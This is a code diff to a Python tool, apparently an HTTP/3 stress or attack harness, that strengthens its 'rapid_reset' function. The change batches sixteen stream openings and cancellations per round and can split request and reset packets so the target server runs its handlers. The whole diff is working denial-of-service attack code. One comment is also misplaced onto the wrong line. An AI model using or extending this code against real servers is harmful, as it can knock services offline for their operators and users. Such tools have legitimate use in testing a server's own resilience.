@@ -61,7 +61,8 @@ from aioquic.quic.events import ConnectionTerminated, HandshakeCompleted, Stream
 import h3_wire as w  # noqa: E402
 
 H3_REQUEST_CANCELLED = 0x10C
-HANDSHAKES_IN_FLIGHT = 64  # bounds the attacker's burst, not the attack size
+HANDSHAKES_IN_FLIGHT = 64
+RESET_BATCH = 16  # rapid-reset: streams opened (then reset) per round  # bounds the attacker's burst, not the attack size
 RECV_PER_WAKEUP = 16
 
 
@@ -355,24 +356,27 @@ async def rapid_reset(a) -> dict:
     async def one(c: w.RawH3) -> None:
         hdr = c.request_headers("GET", "/bytes/1000000")
         while time.time() < end_at[0] and not c.closed():
-            sid = c.bidi()
-            if sid // 4 >= c.quic._remote_max_streams_bidi:
-                # Out of stream credit: wait for MAX_STREAMS (aioquic would
-                # send this RESET_STREAM anyway: a STREAM_LIMIT_ERROR).
+            batch = []
+            for _ in range(RESET_BATCH):
+                sid = c.bidi()
+                if sid // 4 >= c.quic._remote_max_streams_bidi:
+                    break  # out of stream credit (aioquic would send it anyway)
+                c.quic.send_stream_data(sid, hdr)
+                batch.append(sid)
+            if not batch:
                 stats["credit_waits"] += 1
                 await c.wait_until(lambda: sid // 4 < c.quic._remote_max_streams_bidi, 0.5)
                 continue
-            c.quic.send_stream_data(sid, hdr)
             if a.split:
                 # HEADERS in one packet, RESET_STREAM in a later one: the
-                # server has seen the request (and may run its handler).
+                # server has seen the requests (and may run their handlers).
                 c.proto.transmit()
-                await asyncio.sleep(0.001)
-            c.quic.reset_stream(sid, H3_REQUEST_CANCELLED)
+                await asyncio.sleep(0.002)
+            for sid in batch:
+                c.quic.reset_stream(sid, H3_REQUEST_CANCELLED)
             c.proto.transmit()
-            stats["streams_reset"] += 1
-            if stats["streams_reset"] % 32 == 0:
-                await asyncio.sleep(0)  # let the loop read the server's packets
+            stats["streams_reset"] += len(batch)
+            await asyncio.sleep(0)  # let the loop read the server's packets
         if c.closed():
             stats["server_closed"] += 1
             if c.peer_close:
